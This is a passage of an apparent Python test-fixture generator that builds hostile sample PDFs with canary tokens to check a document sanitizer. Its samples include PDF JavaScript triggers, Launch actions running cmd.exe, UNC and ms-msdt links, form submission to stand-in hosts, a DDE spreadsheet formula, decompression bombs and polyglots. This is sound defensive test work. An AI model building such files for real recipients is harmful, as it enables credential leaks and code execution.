"""samples/pdf: hostile files, one or more for each row of file-rules 2.5, each with tokens TZCANARY… in what must not come out; and benign ones.
Files of LibreOffice and poppler are made once and kept (folder exists: left alone), because their bytes hold dates."""
import pathlib
import shutil
import subprocess
import tempfile
import zlib

import _pdf_pictures as pictures
from _pdf_writer import Pdf, document, update, with_object_streams

TEXT = "BT /F1 12 Tf 72 720 Td (Visible text of a notice.) Tj ET"


def js(tag):
    return f"<</S/JavaScript/JS(app.alert\\('TZCANARY-{tag}'\\))>>"


def annotation(rest, subtype="Link", rect="72 600 200 620"):
    return f"<</Type/Annot/Subtype/{subtype}/Rect[{rect}]{rest}>>"


def with_annotation(rest, subtype="Link", more=(), **others):
    return document(page="/Annots[6 0 R]", more=[annotation(rest, subtype), *more], **others)


def link_action(action, more=()):
    return with_annotation(f"/A {action}", more=more)


def form(keys, content, more=""):
    return (f"/Type/XObject/Subtype/Form/BBox[0 0 128 20]/Resources<<{more}>>{keys}", content)


def hostile():
    """name, file, what it is, what must happen."""
    rows = []

    def row(name, data, what, then="The action and its content are gone; the page stays."):
        rows.append((name, data, what, then, "scripts, triggers, actions"))

    def other(name, data, what, then, which):
        rows.append((name, data, what, then, which))

    # Scripts and triggers.
    row("javascript-open-action", document(catalog="/OpenAction 6 0 R", more=[js("open-1")]), "A script that runs when the file opens.")
    row("javascript-in-stream", document(catalog="/OpenAction<</S/JavaScript/JS 6 0 R>>", more=[("", "app.launchURL('http://TZCANARY-jsstream.example/')")]), "A script in a stream of its own.")
    row("javascript-name-tree", document(catalog="/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", more=[js("names-2")]), "A script of the document, reached through the name tree alone.")
    row("javascript-page-open", document(page="/AA<</O 6 0 R/C 7 0 R>>", more=[js("pageopen-3"), js("pageclose-4")]), "Scripts when a page is opened and closed.")
    row("javascript-catalog-triggers", document(catalog="/AA<</WC 6 0 R/WP 6 0 R/DP 7 0 R>>", more=[js("wc-5"), js("dp-6")]), "Scripts before closing and printing.")
    row("javascript-annotation", link_action("7 0 R", [js("annot-7")]), "A link that runs a script.")
    row("javascript-annotation-triggers", with_annotation("/AA<</E 7 0 R/D 8 0 R>>", "Square", [js("enter-8"), js("down-9")]), "Scripts when the pointer enters an annotation.")
    field = "/FT/Tx/T(name)/V(Typed value)/AA<</K 8 0 R/F 9 0 R/C 9 0 R>>/AP<</N 7 0 R>>"
    row("javascript-field", document(catalog="/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>", page="/Annots[6 0 R]",
                                    more=[annotation(field, "Widget"), form("", "BT /F1 10 Tf 2 5 Td (Typed value) Tj ET", "/Font<</F1 5 0 R>>"), js("key-10"), js("format-11")]),
        "Keystroke and format scripts of a form field.", "The typed value is page content; the scripts are gone.")
    row("javascript-next-chain", document(catalog="/OpenAction 6 0 R", more=[
        "<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>", "<</S/Named/N/NextPage/Next[8 0 R 9 0 R]>>", js("next-12"), "<</S/URI/URI(http://example.jp/)/Next 10 0 R>>", js("next-13")]),
        "A harmless first action whose Next chain ends in scripts.", "The page chosen stays, the chain is gone.")
    row("javascript-next-loop", document(catalog="/OpenAction 6 0 R", more=["<</S/JavaScript/JS(TZCANARY-loop-14)/Next 7 0 R>>", "<</S/JavaScript/JS(TZCANARY-loop-15)/Next 6 0 R>>"]), "Actions that name one another for ever.")
    row("javascript-hex-names", document(catalog="/Open#41ction<</#53/Java#53cript/#4a#53(TZCANARY-hex-16)>>/#4e#61mes<</#4aavaScript<</Names[(x) 6 0 R]>>>>", more=[js("hex-17")]), "Key names written with escapes.")
    row("javascript-octal-string", document(catalog="/OpenAction 6 0 R", more=["<</S/JavaScript/JS<545A43414E4152592D686578737472>>>"]), "The script as a hexadecimal string.")
    row("javascript-outline", document(catalog="/Outlines 6 0 R", more=["<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>", "<</Title(Chapter)/Parent 6 0 R/A 8 0 R>>", js("outline-18")]), "An outline item that runs a script.", "The title stays, it leads nowhere.")
    row("javascript-nested-outline", document(catalog="/Outlines 6 0 R", more=["<</First 7 0 R/Last 7 0 R/Count 3>>", "<</Title(One)/Parent 6 0 R/First 8 0 R/Last 8 0 R/Dest[3 0 R/Fit]>>",
        "<</Title(Two)/Parent 7 0 R/First 9 0 R/Last 9 0 R>>", "<</Title(Three)/Parent 8 0 R/A<</S/Launch/F(TZCANARY-outline-19.exe)>>>>"]), "A program started from the third level of an outline.", "Three titles stay.")
    row("javascript-rendition", with_annotation("/A 7 0 R", "Screen", ["<</S/Rendition/OP 0/JS(TZCANARY-rend-20)/R<</S/MR/C<</S/MCD/D<</F(TZCANARY-media-21.wmv)>>>>>>>>"]), "A rendition action with a script and a film elsewhere.")
    row("javascript-object-stream", with_object_streams({1: "<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>", 5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", 6: js("objstm-22")}, plain={4: ("", TEXT)}),
        "All objects, script included, compressed in an object stream.")
    # Actions.
    for name, action, what in [
        ("launch-windows", "<</S/Launch/Win<</F(cmd.exe)/P(/c TZCANARY-launch-23)>>>>", "Starts a program."),
        ("launch-file", "<</S/Launch/F<</Type/Filespec/F(TZCANARY-launch-24.exe)>>/NewWindow true>>", "Opens a file outside."),
        ("goto-remote", "<</S/GoToR/F(\\\\\\\\TZCANARY-gotor-25.example\\\\share\\\\a.pdf)/D[0/Fit]>>", "Opens a file on a server, which gets the user's name and hash."),
        ("goto-embedded", "<</S/GoToE/F(TZCANARY-gotoe-26.pdf)/T<</R/C/N(TZCANARY-target-27)>>>>", "Opens a document inside or beside this one."),
        ("goto-document-part", "<</S/GoToDp/Dp<</Type/DPart/Start 3 0 R/X(TZCANARY-dp-28)>>>>", "Leads to a document part."),
        ("submit-form", "<</S/SubmitForm/F<</FS/URL/F(http://TZCANARY-submit-29.example/)>>/Flags 4>>", "Sends what was typed to a server."),
        ("import-data", "<</S/ImportData/F(TZCANARY-import-30.fdf)>>", "Fills the form from a file."),
        ("reset-form", "<</S/ResetForm/Fields[(TZCANARY-reset-31)]>>", "Clears a form."),
        ("hide", "<</S/Hide/T(TZCANARY-hide-32)/H true>>", "Hides or shows annotations."),
        ("named-odd", "<</S/Named/N/TZCANARYPrint33>>", "A viewer command by name."),
        ("sound-action", "<</S/Sound/Sound 7 0 R>>", "Plays a sound."),
        ("movie-action", "<</S/Movie/T(TZCANARY-movie-34)>>", "Plays a film."),
        ("transition-action", "<</S/Trans/Trans<</S/Dissolve/X(TZCANARY-trans-35)>>>>", "Draws while running other actions."),
        ("set-layer-state", "<</S/SetOCGState/State[/ON]/X(TZCANARY-ocg-36)>>", "Changes what is shown."),
        ("thread-action", "<</S/Thread/F(TZCANARY-thread-37.pdf)/D 0>>", "Leads to an article of another file."),
        ("goto-3d-view", "<</S/GoTo3DView/TA 6 0 R/V(TZCANARY-3d-38)>>", "Changes the view of a 3D model."),
        ("rich-media-execute", "<</S/RichMediaExecute/TA 6 0 R/CMD<</C(TZCANARY-rme-39)>>>>", "Runs a command in a Flash or 3D annotation."),
        ("uri-javascript", "<</S/URI/URI(javascript:alert\\('TZCANARY-uri-40'\\))>>", "A link with a script for address."),
        ("uri-file", "<</S/URI/URI(file://///TZCANARY-uri-41/share)>>", "A link to a file server."),
        ("uri-search-ms", "<</S/URI/URI(search-ms:query=TZCANARY-uri-42&crumb=location:x)>>", "A link that starts a search on a foreign share."),
        ("uri-ms-msdt", "<</S/URI/URI(ms-msdt:/id TZCANARY-uri-43)>>", "A link that starts the diagnostic tool."),
        ("uri-relative", "<</S/URI/URI(../TZCANARY-uri-44.html)>>", "An address without a scheme, completed by a base elsewhere."),
        ("uri-control-characters", "<</S/URI/URI(http://example.jp/\\r\\nTZCANARY-uri-45)>>", "An address with line ends."),
        ("mailto-attach", "<</S/URI/URI(mailto:a@example.jp?attach=c:\\\\TZCANARY-uri-46)>>", "A mail link that attaches a local file."),
        ("mailto-attach-spelled", "<</S/URI/URI(MAILTO:a@example.jp?%41TTACH=c:\\\\TZCANARY-uri-47)>>", "A mail link that attaches a local file, spelled in another way."),
    ]:
        more = [("/Type/Sound/R 8000", "TZCANARY-sound-47")] if name == "sound-action" else ()
        row("action-" + name, link_action(action, more), what)
    # Files.
    spec = "<</Type/Filespec/F(%s)/UF(%s)/EF<</F %d 0 R>>/Desc(TZCANARY-desc-50)>>"
    script = ("/Type/EmbeddedFile/Subtype/application#2fjavascript", "WScript.Echo('TZCANARY-embed-51')\n")
    files = "Gone from the PDF; a file that can be washed goes on beside it."
    other("embedded-name-tree", document(catalog="/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", more=[spec % ("run.js", "run.js", 7), script]), "A script file attached to the document.", files, "attachments")
    other("embedded-washable", document(catalog="/Names<</EmbeddedFiles<</Kids[6 0 R]>>>>", more=["<</Limits[(a)(a)]/Names[(a) 7 0 R]>>", "<</Type/Filespec/F(list.csv)/UF<FEFF4E0089A7002E006300730076>/EF<</F 8 0 R>>>>",
        ("/Type/EmbeddedFile", "name,total\nsato,=cmd|'/c calc'!A0\n")]), "A table attached to the document, with a formula that runs a program.", "The table goes on beside the PDF, its formula disarmed.", "attachments")
    other("embedded-associated", document(catalog="/AF[6 0 R]", page="/AF[6 0 R]", more=[spec % ("TZCANARY-af-53.js", "TZCANARY-af-53.js", 7), script]), "A file associated with the document and a page (PDF 2.0).", files, "attachments")
    other("embedded-annotation", with_annotation("/FS 7 0 R/Contents(TZCANARY-fa-54)/Name/PushPin", "FileAttachment", [spec % ("a.js", "a.js", 8), script]), "A file behind a pin on the page.", files, "attachments")
    other("embedded-portfolio", document(catalog="/Collection<</View/D/Schema<</A<</N(TZCANARY-schema-55)>>>>>>/Names<</EmbeddedFiles<</Names[(a) 6 0 R(b) 8 0 R]>>>>",
        more=[spec % ("one.js", "one.js", 7), script, spec % ("two.exe", "two.exe", 9), ("/Type/EmbeddedFile", b"MZ\x90\0TZCANARY-exe-56".decode("latin-1"))]), "A portfolio of files with a cover page.", files, "attachments")
    other("embedded-encrypted-payload", document(catalog="/Names<</EmbeddedFiles<</Names[(p) 6 0 R]>>>>/Collection<</View/H>>", more=[
        "<</Type/Filespec/AFRelationship/EncryptedPayload/F(secret.pdf)/UF(secret.pdf)/EF<</F 7 0 R>>/EP<</Type/EncryptedPayload/Subtype/TZCANARYVendor57>>>>",
        ("/Type/EmbeddedFile", "%PDF-2.0\nTZCANARY-payload-58 trailer<</Encrypt 1 0 R>>")]), "An unencrypted wrapper around an encrypted document.", "The wrapper page stays; the payload is withheld.", "encryption, attachments")
    other("embedded-lying-name", document(catalog="/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", more=[
        "<</Type/Filespec/F(invoice\\056pdf)/UF<FEFF" + "\u202efdp.js".encode("utf-16-be").hex() + ">/EF<</F 7 0 R>>>>", script]), "A script whose name is written from right to left.", files, "attachments")
    # Rich media.
    other("annotation-screen", with_annotation("/T(TZCANARY-screen-60)/MK<</CA(TZCANARY-ca-61)>>", "Screen"), "A place for films.", "Gone.", "rich media")
    other("annotation-movie", with_annotation("/Movie<</F(TZCANARY-film-62.avi)/Poster true>>", "Movie"), "A film elsewhere.", "Gone.", "rich media")
    other("annotation-sound", with_annotation("/Sound 7 0 R/Contents(TZCANARY-note-63)", "Sound", [("/Type/Sound/R 8000/C 1", "TZCANARY-pcm-64")]), "A sound.", "Gone.", "rich media")
    other("annotation-rich-media", with_annotation("/RichMediaContent<</Assets<</Names[(TZCANARY.swf) 7 0 R]>>/Configurations[<</Subtype/Flash>>]>>/RichMediaSettings<</Activation<</Condition/PO>>>>/AP<</N 9 0 R>>", "RichMedia",
        [spec % ("movie.swf", "movie.swf", 8), ("/Type/EmbeddedFile", "CWS\x0a\0\0\0\x01\x02TZCANARY-swf-65\0\x03"), form("", "1 0 0 rg 0 0 128 20 re f")]), "Flash that starts with the page.", "Its picture stays on the page.", "rich media")
    other("annotation-3d", with_annotation("/3DD 7 0 R/3DV<</XN(TZCANARY-view-66)>>/AP<</N 8 0 R>>", "3D", [("/Type/3D/Subtype/U3D/OnInstantiate 9 0 R", "U3D TZCANARY-model-67"), form("", "0 0 1 rg 0 0 128 20 re f"), ("", "TZCANARY-3djs-68")]), "A 3D model with a script.", "Its picture stays on the page.", "rich media")
    other("annotation-trap-net", with_annotation("/Version[3 0 R]/AnnotStates[null]/LastModified(TZCANARY-trap-69)/AP<</N 7 0 R>>", "TrapNet", [form("", "0 g 0 0 1 1 re f")]), "A trap network for presses.", "What it draws stays; the rest is gone.", "rich media")
    other("annotation-hidden", with_annotation("/F 2/Contents(TZCANARY-hid-70)/AP<</N 7 0 R>>", "FreeText", [form("", "BT /F1 9 Tf (TZCANARY-hid-71) Tj ET", "/Font<</F1 5 0 R>>")]), "An annotation that is not shown.", "Gone, and told.", "rich media")
    other("annotation-popup-comment", document(page="/Annots[6 0 R 7 0 R]", more=[annotation("/Contents(TZCANARY-comment-72)/T(TZCANARY-author-73)/Popup 7 0 R/AP<</N 8 0 R>>", "Text"), annotation("/Parent 6 0 R/Open true", "Popup", "300 300 400 400"), form("", "1 1 0 rg 0 0 20 20 re f")]),
        "A comment behind a note.", "The note's icon stays, the comment is told as removed.", "rich media")
    # Forms.
    xfa = ("", '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>TZCANARY-xfa-80</script></xdp:xdp>')
    other("xfa-stream", document(catalog="/AcroForm<</Fields[]/XFA 6 0 R>>", more=[xfa]), "A dynamic form in XML with scripts.", "Gone.", "forms")
    other("xfa-array", document(catalog="/AcroForm<</Fields[]/XFA[(template)6 0 R(datasets)7 0 R]/NeedAppearances true>>", more=[xfa, ("", "<d>TZCANARY-data-81</d>")]), "The same in pieces.", "Gone.", "forms")
    sig = "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 10 20 30]/Contents<3080545A43414E415259>/Name(TZCANARY-signer-82)/Reason(TZCANARY-reason-83)>>"
    other("signature-field", document(catalog="/AcroForm<</SigFlags 3/Fields[6 0 R]>>/Perms<</DocMDP 8 0 R>>/DSS<</Certs[9 0 R]>>/Legal<</JavaScriptActions 1>>", page="/Annots[6 0 R]", more=[
        annotation("/FT/Sig/T(s)/V 8 0 R/AP<</N 7 0 R>>", "Widget"), form("", "BT /F1 9 Tf 2 5 Td (Signed by Sato) Tj ET", "/Font<</F1 5 0 R>>"), sig, ("", "TZCANARY-cert-84")]),
        "A signed document.", "The visible signature stays as page content; the signature is told as removed.", "forms")
    other("field-password", document(catalog="/AcroForm<</Fields[6 0 R]/NeedAppearances true/DA(/Helv 10 Tf 0 g)>>", page="/Annots[6 0 R]", more=[annotation("/FT/Tx/Ff 8192/T(pw)/V(TZCANARY-pw-85)", "Widget")]), "A password that was typed into a form.", "It is not drawn.", "forms")
    other("field-hidden", document(catalog="/AcroForm<</Fields[6 0 R]/NeedAppearances true>>", page="/Annots[6 0 R]", more=[annotation("/F 2/FT/Tx/T(TZCANARY-t-86)/TU(TZCANARY-tu-87)/V(TZCANARY-v-88)", "Widget")]), "A field that is not shown.", "Gone.", "forms")
    # What nobody sees.
    xmp = ("/Type/Metadata/Subtype/XML", "<x:xmpmeta>TZCANARY-xmp-90</x:xmpmeta>")
    other("metadata-everywhere", document(catalog="/Metadata 6 0 R/PieceInfo<</App<</Private(TZCANARY-piece-91)>>>>/SpiderInfo<</V 1.0/C[<</URL(http://TZCANARY-spider-92.example/)>>]>>/URI<</Base(http://TZCANARY-base-93.example/)>>",
        page="/Metadata 6 0 R/Thumb 8 0 R/PieceInfo<</A<</Private(TZCANARY-piece-94)>>>>/LastModified(D:2026TZCANARY)", more=[xmp, "<</Title(Kept title)/Author(TZCANARY-author-95)/Producer(TZCANARY-producer-96)/Keywords(TZCANARY-kw-97)/Custom(TZCANARY-custom-98)>>",
        ("/Width 4/Height 4/ColorSpace/DeviceGray/BitsPerComponent 8", "TZCANARY-thumb99")], trailer="/Info 7 0 R/TzExtra(TZCANARY-trailer-100)"), "Metadata, private data, thumbnails, document information.", "The title stays; no notice is needed for the rest.", "web capture etc.")
    other("threads-requirements", document(catalog="/Threads[6 0 R]/Requirements[<</S/EnableJavaScripts/RH<</S/TZCANARY101>>>>]/Extensions<</ADBE<</BaseVersion/1.7/ExtensionLevel 3/URL(TZCANARY-ext-102)>>>>/OutputIntents[<</S/GTS_PDFX/Info(TZCANARY-oi-103)/DestOutputProfileRef<</URLs[<</FS/URL/F(http://TZCANARY-oi-104.example)>>]>>>>]",
        page="/B[7 0 R]/Trans<</S/Fly/X(TZCANARY-trans-105)>>/Dur 5", more=["<</F 7 0 R/I<</Title(TZCANARY-thread-106)>>>>", "<</T 6 0 R/N 7 0 R/V 7 0 R/P 3 0 R/R[0 0 1 1]>>"]), "Article threads, requirements, extensions, output intents.", "Gone.", "web capture etc.")
    other("structure-tree", document(catalog="/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R", content="/P <</MCID 0/Secret(TZCANARY-mc-107)>> BDC " + TEXT + " EMC /TZCANARYTag BMC EMC",
        page="/StructParents 0", more=["<</Type/StructTreeRoot/K 7 0 R>>", "<</S/P/P 6 0 R/K 0/Pg 3 0 R/Alt(TZCANARY-alt-108)/A<</O/UserProperties/P[<</N(TZCANARY-up-109)/V 1>>]>>>>"]), "A tag tree with alternative texts and user properties.", "Gone; the page text stays.", "web capture etc.")
    # Structure.
    base = document(content="BT /F1 12 Tf 72 720 Td (TZCANARY-old-110) Tj ET")
    other("incremental-history", update(base, {4: f"<</Length {len(TEXT)}>>\nstream\n{TEXT}\nendstream"}), "An earlier state of the page under the current one.", "Only what is shown now goes on.", "structure")
    other("incremental-shadow", update(update(document(), {6: js("shadow-111"), 1: "<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"}), {1: "<</Type/Catalog/Pages 2 0 R>>"}), "A shadowed catalog with a script, replaced by a clean one.", "The script is not in the output.", "structure")
    other("several-ends", document() + b"\n6 0 obj\n" + js("after-112").encode() + b"\nendobj\n%%EOF\n%%EOF\n", "Objects and end marks behind the end.", "Gone.", "structure")
    other("junk-before-header", b"MZ TZCANARY-junk-113\n" * 3 + document(), "A program's head before the PDF header.", "The output begins with its header.", "structure, polyglots")
    other("zip-at-tail", document() + b"PK\x05\x06" + b"\0" * 18 + b"TZCANARY-zip-114", "A zip end record behind the PDF.", "Gone.", "polyglots")
    other("html-polyglot", b"%PDF-1.7\n<html><script>alert('TZCANARY-html-115')</script>\n" + document()[9:], "HTML in a comment line of the head.", "Gone.", "polyglots")
    other("unreachable-objects", document(more=[js("orphan-116"), ("", "TZCANARY-orphan-117")]), "Objects that nothing refers to.", "Not copied.", "structure")
    other("page-tree-loop", document(kids="3 0 R 6 0 R", more=["<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"]), "A page tree that contains itself.", "Ends; the page is there.", "structure: loops")
    deep = Pdf()
    deep.add("<</Type/Catalog/Pages 2 0 R>>")
    for level in range(2, 300):
        deep.add(f"<</Type/Pages/Count 1/Kids[{level + 1} 0 R]>>")
    deep.add("<</Type/Page/MediaBox[0 0 10 10]>>")
    other("page-tree-deep", deep.finish(), "A page tree of 300 levels.", "Refused: no page within the levels allowed.", "structure: deep page trees")
    other("form-loop", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Y 7 0 R>>>>", "/Y Do"), ("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>", "/X Do")]), "Forms that draw one another.", "Drawn once.", "structure: loops")
    other("outline-loop", document(catalog="/Outlines 6 0 R", more=["<</First 7 0 R/Last 8 0 R/Count 2>>", "<</Title(A)/Next 8 0 R/Parent 6 0 R/First 7 0 R>>", "<</Title(B)/Next 7 0 R/Parent 6 0 R>>"]), "An outline without end.", "Ends.", "structure: loops")
    other("name-tree-loop", document(catalog="/Names<</Dests 6 0 R>>", more=["<</Kids[6 0 R 7 0 R]>>", "<</Kids[6 0 R]/Names[(x)[3 0 R/Fit]]>>"]), "A name tree that contains itself.", "Ends.", "structure: loops")
    other("duplicate-keys", document(catalog="/OpenAction 6 0 R/OpenAction 7 0 R/OpenAction null", more=[js("dup-118"), js("dup-119")]), "The same key several times.", "None of its values goes on.", "structure: duplicate objects")
    other("dangling-references", document(catalog="/Outlines 90 0 R/Names 91 0 R/AcroForm 92 0 R", page="/Annots[93 0 R 94 0 R]", resources="/XObject<</X 95 0 R>>", content=TEXT + " /X Do /Y gs"), "References to nothing.", "No dangling reference in the output.", "structure: dangling")
    other("content-unknown-operators", document(content="(TZCANARY-op-120) EVIL " + TEXT + " BX (TZCANARY-op-121) Foo EX % TZCANARY-op-122\n/TZCANARYName DP q q q Q Q Q Q Q"), "Operators that do not exist, comments, unbalanced restores.", "Dropped.", "streams")
    # Streams and outside content.
    other("external-stream", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(\\\\\\\\TZCANARY-ext-130.example\\\\a)/FFilter/ASCIIHexDecode", "0")]), "A picture whose data are on a server.", "Gone.", "attachments: external streams")
    other("reference-xobject", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[form("/Ref<</F(TZCANARY-ref-131.pdf)/Page 0>>/OPI<</2.0<</F(TZCANARY-opi-132)>>>>", "0 0 1 rg 0 0 9 9 re f")]), "A form that stands for a page of another file.", "The stand-in is drawn.", "attachments: Ref, OPI")
    other("alternate-images", document(content=TEXT + " q 9 0 0 9 9 9 cm /X Do Q", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Alternates[<</Image 7 0 R/DefaultForPrinting true>>]", "A"),
        ("/Type/XObject/Subtype/Image/Width 16/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8", "TZCANARY-alt-133")]), "Another picture for print than for the screen.", "The one on the screen stays.", "attachments: Alternates")
    other("postscript-xobject", document(content=TEXT + " /X Do /Z Do", resources="/XObject<</X 6 0 R/Z 7 0 R>>", more=[("/Type/XObject/Subtype/PS", "(TZCANARY-ps-134) run"), ("/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 1 1]", "TZCANARY-ps-135")]), "PostScript for the printer.", "Gone.", "streams: PS")
    other("jbig2", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", "TZCANARY-jbig2-136")]), "A JBIG2 picture.", "Withheld as unsupported.", "streams: JBIG2Decode")
    bomb = b"\xff\x4f\xff\x51\x00\x29\x00\x00" + b"".join(n.to_bytes(4, "big") for n in (60000, 60000, 0, 0, 1, 1, 0, 0)) + b"\x00\x01\x07\x01\x01" + b"TZCANARY-jpx-137"
    other("jpx-bomb", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 60/Height 60/Filter/JPXDecode", bomb.decode("latin-1"))]), "A JPEG 2000 picture of 60,000 by 60,000 dots in tiles of one.", "Gone, refused before decoding.", "streams: JPXDecode")
    zeros = zlib.compress(zlib.compress(b"TZCANARY-bomb-138" + b"\0" * 3_000_000, 9), 9).decode("latin-1")
    other("flate-cascade", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 30/Height 30/ColorSpace/DeviceGray/BitsPerComponent 8/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode/FlateDecode/FlateDecode/FlateDecode]", zeros)]), "More filters in a row than anybody needs.", "Gone.", "streams: filter cascades")
    other("huge-predictor", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[("/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>", zlib.compress(b"TZCANARY-pred-139").decode("latin-1"))]), "A predictor with rows of gigabytes.", "Gone.", "streams: huge predictors")
    other("crypt-filter-identity", document(content="", more=[("/Filter[/Crypt/FlateDecode]/DecodeParms[<</Type/CryptFilterDecodeParms/Name/Identity>> null]", zlib.compress(TEXT.encode()).decode("latin-1"))], contents="6 0 R"), "A stream with an identity crypt filter.", "Read; written with Flate only.", "encryption: crypt filters")
    other("font-junk", document(content=TEXT + " BT /F2 9 Tf 72 600 Td (Second.) Tj ET", resources="", more=["<</Type/Font/Subtype/TrueType/BaseFont/Junk/FontDescriptor 7 0 R>>", "<</Type/FontDescriptor/FontName/Junk/Flags 32/FontFile2 8 0 R>>", ("", "TZCANARY-font-140 not a font")], fonts="/F2 6 0 R"), "A font program that is none.", "The text stays, the program is gone.", "streams: fonts")
    other("calculator-odd", document(content=TEXT + " /CS1 cs 0.5 scn 9 9 20 20 re f", resources="/ColorSpace<</CS1[/Separation/Spot/DeviceRGB 6 0 R]>>", more=[("/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]", "{ dup (TZCANARY-calc-141) run exch }")]), "A calculator function with PostScript operators.", "The colour space is gone.", "streams: type 4")
    other("icc-junk", document(content=TEXT + " /CS1 cs 1 0 0 scn 9 9 20 20 re f", resources="/ColorSpace<</CS1[/ICCBased 6 0 R]>>", more=[("/N 3/Metadata 7 0 R", "TZCANARY-icc-142" + "x" * 200), xmp]), "A colour profile that is none.", "The device colour space takes its place.", "streams: ICC")
    other("cmap-postscript", document(content=TEXT + " BT /F2 9 Tf 72 600 Td <0001> Tj ET", more=["<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 8 0 R>>",
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/DW 1000>>",
        ("", "/TZCANARYRes findresource begin (TZCANARY-cmap-143) run 1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfchar <0001> <3042> endbfchar /TZ#20CANARY usecmap end")], fonts="/F2 6 0 R"), "A character map with a program in it.", "The table stays, the program is gone.", "streams: CMaps")
    levels = [("/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (7 + n), "/X Do " * 200) for n in range(5)]
    other("form-bomb", document(content=TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=[*levels, ("/Subtype/Form/BBox[0 0 9 9]", "0 0 1 1 re f")]), "Forms that draw forms, 200 times on five levels.", "Drawn no more than a viewer can bear; told.", "streams: nested forms")
    other("text-array-odd-items", document(content="BT /F1 12 Tf 72 720 Td [(Visible text) null -5 /N [(TZCANARY-array-144)] <</A 1>> true ( of a notice.)] TJ ET"), "A text array with items that are no text.", "The text stays.", "streams")
    other("widths-with-null", document(content=TEXT + " BT /F2 9 Tf 72 600 Td (AB) Tj ET", more=["<</Type/Font/Subtype/TrueType/BaseFont/Arial/FirstChar 65/LastChar 67/Widths[600 null /TZCANARY-width-145]>>"], fonts="/F2 6 0 R"), "A list of widths with a null.", "The list stays.", "streams: fonts")
    index = lambda *items: len(items).to_bytes(2, "big") + (b"\1" + b"".join(bytes([1 + sum(map(len, items[:n]))]) for n in range(len(items) + 1)) + b"".join(items) if items else b"")
    short = lambda n: b"\x1c" + n.to_bytes(2, "big")
    front, strings = b"\1\0\4\1" + index(b"Font"), index(b"TZCANARY-cff-146") + index()
    glyphs, gap = index(b"\x0e", b"\x0e"), b"TZCANARY-cff-147"
    at = len(front) + 5 + 13 + len(strings) + len(gap)
    cff = front + index(short(391) + b"\1" + short(at) + b"\x11" + b"\x8b" + short(at + len(glyphs)) + b"\x12") + strings + gap + glyphs + b"TZCANARY-cff-148"
    other("font-cff-payload", document(content=TEXT + " BT /F2 9 Tf 72 600 Td (A) Tj ET", more=["<</Type/Font/Subtype/Type1/BaseFont/X/FontDescriptor 7 0 R>>", "<</Type/FontDescriptor/FontName/X/Flags 4/FontFile3 8 0 R>>", ("/Subtype/Type1C", cff.decode("latin-1"))], fonts="/F2 6 0 R"), "Data in the notice, between and behind the tables of a CFF font.", "The font stays with nothing but its tables.", "streams: fonts")
    other("samples-payload", document(content=TEXT + " /CS1 cs 0.5 scn 9 9 20 20 re f", resources="/ColorSpace<</CS1[/Separation/Spot/DeviceRGB 6 0 R]>>", more=[("/FunctionType 0/Domain[0 1]/Range[0 1 0 1 0 1]/Size[2]/BitsPerSample 8", "\xff\xff\xff\0\0\0TZCANARY-samples-149")]), "Data behind the samples of a function.", "The function stays with its samples only.", "streams: functions")
    other("object-stream-bomb", None, "An object stream that grows to 100 MB.", "Refused as too large.", "structure: object streams")
    # Layers.
    layers = "/OCProperties<</OCGs[6 0 R 7 0 R]/D<</Order[6 0 R 7 0 R]/OFF[7 0 R]/AS[<</Event/View/OCGs[7 0 R]/Category[/View]>>]/Name(TZCANARY-cfg-150)>>/Configs[<</Name(TZCANARY-cfg-151)>>]>>"
    groups = ["<</Type/OCG/Name(Shown)/Usage<</X(TZCANARY-usage-152)>>>>", "<</Type/OCG/Name(TZCANARY-layer-153)>>"]
